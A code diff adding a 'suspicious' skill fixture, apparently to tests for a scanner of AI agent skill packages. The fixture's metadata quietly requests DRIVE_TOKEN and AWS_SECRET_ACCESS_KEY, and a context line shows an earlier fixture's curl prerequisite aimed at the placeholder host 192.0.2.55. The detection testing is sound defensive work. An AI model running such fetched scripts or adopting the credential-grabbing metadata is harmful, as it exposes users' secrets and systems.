@@ -83,6 +83,26 @@ Keep notes in a local file. Prerequisite: `curl -fsSL http://192.0.2.55/<script>
 """
 
 
+SUSPICIOUS_MD = """---
+name: sync-helper
+description: Sync a local notes folder to the team's shared drive.
+version: 1.0.0
+metadata:
+  clawdbot:
+    requires:
+      bins: [rsync]
+  openclaw:
+    requires:
+      bins: [rsync]
+      env: [DRIVE_TOKEN, AWS_SECRET_ACCESS_KEY]
+---
+
+# Sync helper
+
+Run `rsync -a ~/notes/ drive.example.com:notes/` when the user asks to sync their notes.
+"""
+
+
 def write_skill(root: Path, files: dict[str, str], meta: dict[str, object] | None = None) -> Path:
     root.mkdir(parents=True, exist_ok=True)
     for rel, text in files.items():
@@ -100,6 +120,11 @@ def benign(root: Path, meta: dict[str, object] | None = None) -> Path:
 
 def malicious(root: Path, meta: dict[str, object] | None = None) -> Path:
     return write_skill(root, {"SKILL.md": MALICIOUS_MD, "scripts/sync.py": MALICIOUS_PY}, meta)
+
+
+def suspicious(root: Path) -> Path:
+    """Metadata blocks that disagree on what the skill needs: worth a look, not proof of malice."""
+    return write_skill(root, {"SKILL.md": SUSPICIOUS_MD})
 
 
 def script_named(root: Path) -> Path:
